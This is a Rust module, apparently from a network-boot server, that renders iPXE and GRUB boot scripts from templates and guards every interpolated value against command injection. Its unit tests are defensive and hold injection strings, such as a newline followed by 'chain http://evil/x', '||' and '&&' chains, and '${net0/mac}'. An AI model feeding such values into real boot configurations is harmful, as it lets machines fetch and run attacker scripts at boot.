//! iPXE script templates (minijinja): built-in copies embedded in the
//! binary, overridable by name from the operator's `templates.dir`.
//!
//! Every value interpolated into a script passes through [`refuse_unsafe`]:
//! iPXE has no quoting, so a value carrying a newline, `||`, `&&`, `$` or a
//! similar character could run commands of its own. Such a value makes the
//! render fail (and the caller serves its safe local-boot script) rather
//! than being mangled into something that still boots.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use minijinja::value::{Serde, Value};
use minijinja::{Environment, ErrorKind, UndefinedBehavior};
use serde::Serialize;

use crate::model::script::ScriptFormat;

/// Built-in templates: (name, source).
const BUILT_IN: &[(&str, &str)] = &[
    (
        "_header.ipxe.j2",
        include_str!("../../templates/_header.ipxe.j2"),
    ),
    (
        "_status.ipxe.j2",
        include_str!("../../templates/_status.ipxe.j2"),
    ),
    (
        "_offline_banner.ipxe.j2",
        include_str!("../../templates/_offline_banner.ipxe.j2"),
    ),
    (
        "_conflict_banner.ipxe.j2",
        include_str!("../../templates/_conflict_banner.ipxe.j2"),
    ),
    (
        "_localboot.ipxe.j2",
        include_str!("../../templates/_localboot.ipxe.j2"),
    ),
    (
        "bootstrap.ipxe.j2",
        include_str!("../../templates/bootstrap.ipxe.j2"),
    ),
    (
        "install.ipxe.j2",
        include_str!("../../templates/install.ipxe.j2"),
    ),
    (
        "local.ipxe.j2",
        include_str!("../../templates/local.ipxe.j2"),
    ),
    (
        "discovery.ipxe.j2",
        include_str!("../../templates/discovery.ipxe.j2"),
    ),
    (
        "retired.ipxe.j2",
        include_str!("../../templates/retired.ipxe.j2"),
    ),
    (
        "_header.grub.j2",
        include_str!("../../templates/_header.grub.j2"),
    ),
    (
        "_status.grub.j2",
        include_str!("../../templates/_status.grub.j2"),
    ),
    (
        "_offline_banner.grub.j2",
        include_str!("../../templates/_offline_banner.grub.j2"),
    ),
    (
        "_conflict_banner.grub.j2",
        include_str!("../../templates/_conflict_banner.grub.j2"),
    ),
    (
        "_localboot.grub.j2",
        include_str!("../../templates/_localboot.grub.j2"),
    ),
    (
        "bootstrap.grub.j2",
        include_str!("../../templates/bootstrap.grub.j2"),
    ),
    (
        "install.grub.j2",
        include_str!("../../templates/install.grub.j2"),
    ),
    (
        "local.grub.j2",
        include_str!("../../templates/local.grub.j2"),
    ),
    (
        "discovery.grub.j2",
        include_str!("../../templates/discovery.grub.j2"),
    ),
    (
        "retired.grub.j2",
        include_str!("../../templates/retired.grub.j2"),
    ),
];

/// The template file name of `part` (`_header`, `install` …) in `format`.
fn template_name(part: &str, format: ScriptFormat) -> String {
    format!("{part}.{}.j2", format.as_str())
}

#[derive(Debug, thiserror::Error)]
pub enum TemplateError {
    #[error("{origin}:{line}: {message}")]
    Render {
        origin: String,
        line: usize,
        message: String,
    },
    #[error("cannot read template {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// The per-node facts a script template sees.
#[derive(Debug, Clone, Serialize)]
pub struct ScriptContext {
    pub site_id: String,
    pub base_url: String,
    pub mac: String,
    pub mac_hyphen: String,
    pub state: String,
    pub action: String,
    pub source: String,
    pub arch: Option<String>,
    pub platform: Option<String>,
    pub hostname: Option<String>,
    pub node: Option<NodeView>,
    pub workflow: Option<WorkflowView>,
    pub banner: Option<String>,
    /// The open conflict an install was held back for (banner `conflict`).
    pub conflict_id: Option<u64>,
    /// The file an offline install was held back for (banner `not_cached`).
    pub missing_file: Option<String>,
    pub offline: Option<OfflineView>,
    /// GRUB's device path of the agent's `/assets` files (`(tftp,<agent>)`:
    /// the agent's TFTP serves them), for GRUB configurations.
    pub asset_root: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct NodeView {
    pub id: String,
    pub hostname: Option<String>,
    pub group_id: Option<String>,
    pub tags: Vec<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct WorkflowView {
    pub id: String,
    pub name: String,
    pub method: String,
    pub kernel_url: String,
    pub initrds: Vec<ImageView>,
    pub cmdline: String,
    /// The command line's words, each its own argument in GRUB (one
    /// quoted argument with spaces would reach the kernel in quotes).
    pub cmdline_args: Vec<String>,
    pub url: Option<String>,
    /// GRUB's device path of the kernel (see `render::grub_path`); None
    /// where GRUB cannot fetch it (https, an HTTP port).
    pub kernel_path: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct ImageView {
    pub url: String,
    /// iPXE names a fetched image after the last path segment of its URL;
    /// UEFI kernels need `initrd=<that name>` on their command line.
    pub name: String,
    /// GRUB's device path of the image; None where GRUB cannot fetch it.
    pub path: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct OfflineView {
    pub since: String,
    pub duration: String,
    pub cached_at: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct BootstrapContext {
    pub base_url: String,
    pub site_id: String,
    pub retries: u32,
    pub retry_delay_s: u32,
}

pub struct Templates {
    env: Environment<'static>,
    /// Template name → where it came from, for error messages.
    origins: HashMap<String, String>,
}

impl Templates {
    /// Loads templates (operator copies first), then renders each once with
    /// sample data so that a broken template stops start-up, not a boot.
    pub fn load(operator_dir: &Path) -> Result<Templates, TemplateError> {
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        env.set_syntax(
            minijinja::syntax::SyntaxConfig::builder()
                .trim_blocks(true)
                .lstrip_blocks(true)
                .keep_trailing_newline(true)
                .build()
                .map_err(|e| TemplateError::Render {
                    origin: "built-in syntax".into(),
                    line: 0,
                    message: e.to_string(),
                })?,
        );
        // Each format has its own rule for a value: iPXE has no quoting
        // (a dangerous value is refused), GRUB's single quotes hold
        // anything but a control character.
        env.set_formatter(|out, state, value| {
            let text = if state.name().ends_with(".grub.j2") {
                grub_word(value)?
            } else {
                refuse_unsafe(value)?
            };
            out.write_str(&text).map_err(minijinja::Error::from)
        });
        let mut origins = HashMap::new();
        for (name, built_in) in BUILT_IN {
            let path = operator_dir.join(name);
            let (source, origin) = match std::fs::read_to_string(&path) {
                Ok(text) => (text, path.display().to_string()),
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                    (built_in.to_string(), format!("built-in {name}"))
                }
                Err(source) => return Err(TemplateError::Read { path, source }),
            };
            origins.insert(name.to_string(), origin);
            env.add_template_owned(name.to_string(), source)
                .map_err(|e| convert(&origins, e))?;
        }
        let templates = Templates { env, origins };
        templates.self_test()?;
        Ok(templates)
    }

    /// The built-in templates only.
    #[cfg(test)]
    pub fn built_in() -> Result<Templates, TemplateError> {
        Self::load(Path::new("/nonexistent/siteboot-templates"))
    }

    /// Where the template came from: the operator's file, or built in.
    #[cfg(test)]
    pub fn origin(&self, name: &str) -> Option<&str> {
        self.origins.get(name).map(String::as_str)
    }

    /// The bootstrap (`boot.ipxe`, or GRUB's `grub/grub.cfg`).
    pub fn render_bootstrap(
        &self,
        ctx: &BootstrapContext,
        format: ScriptFormat,
    ) -> Result<String, TemplateError> {
        self.render(&template_name("bootstrap", format), Value::from(Serde(ctx)))
    }

    /// Renders the header (`#!ipxe` or a comment, status line, offline
    /// banner).
    pub fn render_header(
        &self,
        ctx: &ScriptContext,
        format: ScriptFormat,
    ) -> Result<String, TemplateError> {
        self.render(&template_name("_header", format), Value::from(Serde(ctx)))
    }

    /// Renders the body template of an action (`install`, `local` …).
    pub fn render_body(
        &self,
        action: &str,
        ctx: &ScriptContext,
        format: ScriptFormat,
    ) -> Result<String, TemplateError> {
        self.render(&template_name(action, format), Value::from(Serde(ctx)))
    }

    fn render(&self, name: &str, ctx: Value) -> Result<String, TemplateError> {
        let template = self
            .env
            .get_template(name)
            .map_err(|e| convert(&self.origins, e))?;
        template.render(ctx).map_err(|e| convert(&self.origins, e))
    }

    fn self_test(&self) -> Result<(), TemplateError> {
        let bootstrap = BootstrapContext {
            base_url: "http://192.0.2.1:8080".into(),
            site_id: "sample".into(),
            retries: 3,
            retry_delay_s: 2,
        };
        for format in [ScriptFormat::Ipxe, ScriptFormat::Grub] {
            self.render_bootstrap(&bootstrap, format)?;
            for action in ["install", "local", "discovery", "retired"] {
                for offline in [false, true] {
                    for method in ["kernel", "sanboot", "chain"] {
                        let ctx = sample_context(action, method, offline);
                        self.render_header(&ctx, format)?;
                        self.render_body(action, &ctx, format)?;
                    }
                }
            }
        }
        // Every banner of the local boot, the conflict one included.
        for banner in [
            "hold",
            "installing",
            "install_failed",
            "no_workflow",
            "conflict",
            "not_cached",
        ] {
            let mut ctx = sample_context("local", "kernel", false);
            ctx.banner = Some(banner.into());
            self.render_body("local", &ctx, ScriptFormat::Ipxe)?;
            self.render_body("local", &ctx, ScriptFormat::Grub)?;
        }
        Ok(())
    }
}

/// Sample data covering every optional field, for the start-up self-test.
pub(crate) fn sample_context(action: &str, method: &str, offline: bool) -> ScriptContext {
    let url = "http://192.0.2.1:8080";
    ScriptContext {
        site_id: "sample".into(),
        base_url: url.into(),
        mac: "52:54:00:00:00:01".into(),
        mac_hyphen: "52-54-00-00-00-01".into(),
        state: "pending".into(),
        action: action.into(),
        source: if offline { "offline" } else { "standalone" }.into(),
        arch: Some("x86_64".into()),
        platform: Some("efi".into()),
        hostname: Some("sample-01".into()),
        node: Some(NodeView {
            id: "local-sample".into(),
            hostname: Some("sample-01".into()),
            group_id: Some("rack1".into()),
            tags: vec!["sample".into()],
        }),
        workflow: Some(WorkflowView {
            id: "sample".into(),
            name: "Sample OS".into(),
            method: method.into(),
            kernel_url: format!("{url}/assets/sample/vmlinuz"),
            initrds: vec![ImageView {
                url: format!("{url}/assets/sample/initrd.img"),
                name: "initrd.img".into(),
                path: Some("(tftp,192.0.2.1)/sample/initrd.img".into()),
            }],
            cmdline: "console=ttyS0".into(),
            cmdline_args: vec!["console=ttyS0".into()],
            url: Some(format!("{url}/assets/sample.iso")),
            kernel_path: Some("(tftp,192.0.2.1)/sample/vmlinuz".into()),
        }),
        banner: Some("hold".into()),
        conflict_id: Some(7),
        missing_file: Some("sample/initrd.img".into()),
        offline: offline.then(|| OfflineView {
            since: "2026-01-01T00:00:00Z".into(),
            duration: "5m".into(),
            cached_at: "2026-01-01T00:00:00Z".into(),
        }),
        asset_root: "(tftp,192.0.2.1)".into(),
    }
}

/// Characters that let a value escape the command it is interpolated into:
/// line breaks and other controls end the command; `|`, `&` build `||` and
/// `&&` chains; `$` expands settings; quotes and backslashes alter parsing;
/// `;` is refused too, since some consumers of the command line (kernel
/// arguments passed to shells) treat it as a separator.
fn is_unsafe_char(c: char) -> bool {
    c.is_control() || matches!(c, '|' | '&' | '$' | ';' | '`' | '\\' | '"' | '\'')
}

/// Renders a value for a GRUB configuration as one single-quoted word:
/// inside single quotes GRUB expands nothing (no `$`, no `;`, no
/// globbing), and a quote cannot be escaped there, so `'` becomes `'\''`
/// (close, an escaped quote, reopen). A control character is refused: no
/// value needs one, and a line break would make a configuration no one
/// can read. Nothing a value holds can add a GRUB command.
fn grub_word(value: &Value) -> Result<String, minijinja::Error> {
    if value.is_none() {
        return Ok(String::new());
    }
    let text = value.to_string();
    if let Some(bad) = text.chars().find(|c| c.is_control()) {
        return Err(minijinja::Error::new(
            ErrorKind::InvalidOperation,
            format!(
                "refusing to put {text:?} into a GRUB configuration: control character {bad:?}"
            ),
        ));
    }
    Ok(format!("'{}'", text.replace('\'', "'\\''")))
}

/// Renders a value for an iPXE script, or refuses it.
fn refuse_unsafe(value: &Value) -> Result<String, minijinja::Error> {
    if value.is_none() {
        return Ok(String::new());
    }
    let text = value.to_string();
    if let Some(bad) = text.chars().find(|c| is_unsafe_char(*c)) {
        return Err(minijinja::Error::new(
            ErrorKind::InvalidOperation,
            format!(
                "refusing to put {text:?} into an iPXE script: character {bad:?} could inject commands"
            ),
        ));
    }
    Ok(text)
}

fn convert(origins: &HashMap<String, String>, err: minijinja::Error) -> TemplateError {
    let name = err.name().unwrap_or("?").to_string();
    let origin = origins.get(&name).cloned().unwrap_or(name);
    let mut message = err.kind().to_string();
    if let Some(detail) = err.detail() {
        message = format!("{message}: {detail}");
    }
    TemplateError::Render {
        origin,
        line: err.line().unwrap_or(0),
        message,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> ScriptContext {
        sample_context("local", "kernel", false)
    }

    #[test]
    fn built_in_templates_render() {
        let t = Templates::built_in().unwrap();
        let header = t.render_header(&ctx(), ScriptFormat::Ipxe).unwrap();
        assert!(header.starts_with("#!ipxe\n"), "{header}");
        assert!(header.contains(
            "echo siteboot: mac=52:54:00:00:00:01 state=pending action=local source=standalone\n"
        ));
        assert!(!header.contains("OFFLINE"));
        let mut offline = ctx();
        offline.offline = Some(OfflineView {
            since: "2026-11-22T10:00:00Z".into(),
            duration: "1h".into(),
            cached_at: "2026-11-22T09:00:00Z".into(),
        });
        let header = t.render_header(&offline, ScriptFormat::Ipxe).unwrap();
        assert!(
            header.contains(
                "*** siteboot OFFLINE: central unreachable since 2026-11-22T10:00:00Z ***"
            )
        );
    }

    #[test]
    fn install_script_carries_kernel_initrd_and_bootif() {
        let t = Templates::built_in().unwrap();
        let body = t
            .render_body(
                "install",
                &sample_context("install", "kernel", false),
                ScriptFormat::Ipxe,
            )
            .unwrap();
        assert!(body.contains("kernel http://192.0.2.1:8080/assets/sample/vmlinuz initrd=initrd.img console=ttyS0 BOOTIF=01-52-54-00-00-00-01"), "{body}");
        assert!(
            body.contains("initrd http://192.0.2.1:8080/assets/sample/initrd.img"),
            "{body}"
        );
        assert!(!body.contains("\n\n\n"), "blank-line noise: {body}");
    }

    #[test]
    fn injection_attempts_are_refused() {
        let t = Templates::built_in().unwrap();
        for evil in [
            "web\nchain http://evil/x",
            "web\rshell",
            "web || shell",
            "web && shell",
            "web ; shell",
            "${net0/mac}",
            "web`x`",
            "web\"x",
            "tab\there",
        ] {
            let mut c = ctx();
            c.hostname = Some(evil.to_string());
            let err = t
                .render_body("retired", &c, ScriptFormat::Ipxe)
                .expect_err(evil)
                .to_string();
            assert!(err.contains("could inject commands"), "{evil:?}: {err}");
            let mut c = sample_context("install", "kernel", false);
            if let Some(wf) = c.workflow.as_mut() {
                wf.cmdline = evil.to_string();
            }
            assert!(
                t.render_body("install", &c, ScriptFormat::Ipxe).is_err(),
                "cmdline {evil:?}"
            );
        }
    }

    /// Issue 19: an operator template that marks a value `|safe` (or
    /// builds one with `~`, `|string`, `|upper`) gets no way around the
    /// injection guard: every value written to a script is checked.
    #[test]
    fn safe_and_filters_never_bypass_the_injection_guard() {
        for body in [
            "echo {{ hostname|safe }}\n",
            "echo {{ (hostname ~ '')|safe }}\n",
            "echo {{ hostname|string|safe }}\n",
            "echo {{ hostname|upper }}\n",
            "{% set h = hostname|safe %}echo {{ h }}\n",
        ] {
            let dir = tempfile::tempdir().unwrap();
            std::fs::write(dir.path().join("retired.ipxe.j2"), body).unwrap();
            let t = Templates::load(dir.path()).unwrap();
            let mut c = ctx();
            c.hostname = Some("web\nchain http://evil/x".into());
            let err = t
                .render_body("retired", &c, ScriptFormat::Ipxe)
                .expect_err(body)
                .to_string();
            assert!(err.contains("could inject commands"), "{body:?}: {err}");
        }
    }

    #[test]
    fn broken_operator_template_names_file_and_line() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("local.ipxe.j2"), "echo ok\necho {{ mac }\n").unwrap();
        let err = Templates::load(dir.path())
            .err()
            .expect("must fail")
            .to_string();
        assert!(err.contains("local.ipxe.j2:2:"), "{err}");
        assert!(err.contains(&dir.path().display().to_string()), "{err}");
    }

    #[test]
    fn undefined_variable_in_operator_template_fails_start_up() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("discovery.ipxe.j2"),
            "echo one\necho two\necho {{ no_such_field }}\n",
        )
        .unwrap();
        let err = Templates::load(dir.path())
            .err()
            .expect("must fail")
            .to_string();
        assert!(err.contains("discovery.ipxe.j2:3:"), "{err}");
    }

    #[test]
    fn operator_template_overrides_built_in() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("retired.ipxe.j2"),
            "echo custom retired {{ mac }}\n",
        )
        .unwrap();
        let t = Templates::load(dir.path()).unwrap();
        assert_eq!(
            t.render_body("retired", &ctx(), ScriptFormat::Ipxe)
                .unwrap(),
            "echo custom retired 52:54:00:00:00:01\n"
        );
        assert!(
            t.origin("retired.ipxe.j2")
                .unwrap()
                .contains(&dir.path().display().to_string())
        );
        assert_eq!(t.origin("local.ipxe.j2"), Some("built-in local.ipxe.j2"));
    }
}
